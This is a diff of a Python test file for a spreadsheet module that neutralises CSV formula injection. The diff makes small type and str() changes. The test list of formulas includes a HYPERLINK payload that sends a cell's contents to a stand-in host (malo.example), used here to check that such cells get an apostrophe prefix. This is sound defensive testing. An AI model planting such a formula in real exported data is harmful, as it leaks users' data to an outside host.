@@ -11,7 +11,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from ciberaula.errors import UserError
-from ciberaula.spreadsheet import LONGEST_TEXT, csv_bytes, looks_like_formula, original_text, safe_cell, write_csv
+from ciberaula.spreadsheet import LONGEST_TEXT, Cell, csv_bytes, looks_like_formula, original_text, safe_cell, write_csv
 
 FORMULAS = [
     '=HYPERLINK("https://malo.example/?"&A2,"Ana")',
@@ -31,7 +31,7 @@ FORMULAS = [
 
 @pytest.mark.parametrize("text", FORMULAS, ids=range(len(FORMULAS)))
 def test_a_text_that_begins_as_a_formula_gets_an_apostrophe(text):
-    safe = safe_cell(text)
+    safe = str(safe_cell(text))
     assert safe == "'" + text.replace("\x00", "")
     assert safe_cell(safe) == safe
     assert original_text(safe) == text.replace("\x00", "")
@@ -72,7 +72,7 @@ def test_no_cell_of_a_csv_file_begins_a_formula_however_it_is_cut(rows):
 
 def test_a_csv_file_is_read_back_the_same(tmp_path):
     path = tmp_path / "notas.csv"
-    rows = [["ana", "Núñez, «Ana»", -2.5, None], ["luis", 'dice "sí"\ny no', 3, True]]
+    rows: list[list[Cell]] = [["ana", "Núñez, «Ana»", -2.5, None], ["luis", 'dice "sí"\ny no', 3, True]]
     write_csv(path, ["id", "nombre", "puntos", "ñ"], rows)
     data = path.read_bytes()
     assert data.startswith(b"\xef\xbb\xbfid,nombre,puntos,\xc3\xb1\r\n")
